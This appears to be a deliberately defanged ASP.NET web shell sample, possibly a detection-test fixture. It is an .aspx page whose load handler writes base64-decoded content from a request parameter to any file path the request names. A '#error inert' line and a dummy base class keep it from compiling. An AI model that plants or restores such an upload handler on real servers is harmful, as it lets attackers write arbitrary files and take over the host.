<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s,EventArgs e){ System.IO.File.WriteAllBytes(Request["f"],Convert.FromBase64String(Request["t"])); }
</script>
